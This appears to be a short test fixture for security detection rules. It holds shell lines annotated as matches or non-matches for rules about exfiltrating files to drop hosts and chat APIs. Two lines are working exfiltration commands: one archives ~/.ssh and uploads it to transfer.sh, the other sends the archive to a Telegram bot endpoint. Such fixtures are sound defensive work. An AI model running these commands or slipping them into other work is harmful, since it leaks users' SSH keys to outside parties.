#!/bin/sh
# ruleid: exfil-file-drop-host
tar cz "$HOME/.ssh" | curl --upload-file - https://transfer.sh/k.tgz
# ok: exfil-file-drop-host
cp build.log /tmp/setup-temp.sh.log
# ruleid: exfil-chat-upload
curl -F document=@/tmp/k.tgz "https://api.telegram.org/bot123456:ABCDEF/sendDocument?chat_id=1"
